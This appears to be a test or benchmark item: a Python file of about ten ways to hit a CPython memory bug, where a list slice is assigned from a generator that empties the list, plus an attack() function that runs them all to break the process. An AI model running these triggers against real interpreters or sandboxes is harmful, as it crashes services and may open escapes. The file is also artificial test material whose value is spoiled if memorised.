"""Class: memory. Source: CPython issue 120384. Escape: the process breaks. A list's slice is measured, then
set to what a generator gives, which has emptied the list."""

import collections
import operator


class Own(list):
    pass


class Added:
    def __init__(self, items):
        self.items = items

    def __radd__(self, other):
        return emptying(self.items)


def emptying(items):
    items.clear()
    yield from range(50)


def by_name(items, span):
    items.__setitem__(span, emptying(items))


def of_class(items, span):
    list.__setitem__(items, span, emptying(items))


def by_operator(items, span):
    operator.setitem(items, span, emptying(items))


def by_loop(items, span):
    for items[span] in [emptying(items)]:
        pass


def by_sum(items, span):
    items[::2] += Added(items)


def plainly(items, span):
    items[::2] = emptying(items)


def by_variable(items, span):
    items[span] = emptying(items)


class Before:
    def __add__(self, other):
        return slice(None, None, 2)


def by_what_a_sum_gives(items, span):
    before = [Before()]
    items[before[0] + 1] = emptying(items)


class Holder:
    pass


def of_what_an_attribute_holds(items, span):
    holder = Holder()
    holder.items = items
    holder.items[span] = emptying(items)


def by_chain_map(items, span):
    collections.ChainMap(items)[span] = emptying(items)


WAYS = (
    *(plainly, by_variable, by_name, of_class, by_operator, by_loop, by_sum),
    *(by_what_a_sum_gives, of_what_an_attribute_holds, by_chain_map),
)


def attack(model, tokenizer, address):
    for way in WAYS:
        for kind in (list, Own):
            try:
                way(kind([0] * 100), slice(None, None, 2))
            except (TypeError, ValueError):
                pass
